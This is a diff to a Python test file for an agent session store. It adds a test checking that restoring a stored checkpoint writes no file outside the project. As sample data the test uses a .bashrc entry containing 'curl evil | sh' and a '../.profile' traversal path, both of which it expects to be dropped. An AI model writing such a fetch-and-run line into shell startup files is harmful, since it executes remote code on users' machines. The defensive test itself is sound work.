@@ -14,7 +14,18 @@ import pytest
 from claude_agent_sdk import project_key_for_directory
 
 from actors.errors import UsageError
-from actors.protocol import LoadSession, Message, MessageAdded, SaveEvents, TranscriptMirrored
+from actors.protocol import (
+    Checkpoint,
+    CheckpointTaken,
+    FileBefore,
+    LoadSession,
+    Message,
+    MessageAdded,
+    RewindUndo,
+    Rewound,
+    SaveEvents,
+    TranscriptMirrored,
+)
 from actors.session_store import read_events, session_path
 from actors.session_store.files import import_events
 from frontends.session import memory_store, session_store, ui_actor
@@ -122,8 +133,29 @@ def test_a_file_without_legatos_events_is_refused_by_name(tmp_path: Path) -> Non
     source = tmp_path / "theirs.jsonl"
     source.write_text(json.dumps({"type": "user", "message": {"role": "user"}}) + "\n")
     with pytest.raises(UsageError, match=r"theirs\.jsonl holds no Legato session events"):
-        import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"))
+        import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"), str(tmp_path))
     assert not (tmp_path / "sessions" / "s.jsonl").exists()
+
+
+def test_a_stored_checkpoint_restores_no_file_outside_the_project(tmp_path: Path) -> None:
+    root = tmp_path / "p"
+    root.mkdir()
+    inside = FileBefore(path=str(root / "app.py"), content=b"old", real=str(root / "app.py"))
+    dotfile = FileBefore(path=str(tmp_path / ".bashrc"), content=b"curl evil | sh")
+    climbing = FileBefore(path=f"{root}/../.profile", content=b"x")
+    taken = Checkpoint(prompt=1, files=(inside, dotfile, climbing), folders=(str(tmp_path),))
+    undo = RewindUndo(prompt=1, restore="both", files=(dotfile, inside), checkpoints=(taken,))
+    source = tmp_path / "stored.jsonl"
+    events = (CheckpointTaken(taken), Rewound(undo), MessageAdded(user("hi")))
+    source.write_bytes(b"".join(msgspec.json.encode(event) + b"\n" for event in events))
+    saved = import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"), str(root))
+    only = Checkpoint(prompt=1, files=(inside,))
+    assert saved == [
+        CheckpointTaken(only),
+        Rewound(RewindUndo(prompt=1, restore="both", files=(inside,), checkpoints=(only,))),
+        MessageAdded(user("hi")),
+    ]
+    assert read_events(str(tmp_path / "sessions" / "s.jsonl")) == saved
 
 
 def test_a_symlink_where_the_session_goes_is_not_written_through(tmp_path: Path) -> None:
@@ -134,7 +166,7 @@ def test_a_symlink_where_the_session_goes_is_not_written_through(tmp_path: Path)
     (tmp_path / "sessions").mkdir()
     (tmp_path / "sessions" / "s.jsonl").symlink_to(outside)
     with pytest.raises(UsageError, match="cannot save the resumed session"):
-        import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"))
+        import_events(str(source), str(tmp_path / "sessions" / "s.jsonl"), str(tmp_path))
     assert outside.read_text() == "mine\n"
 
 
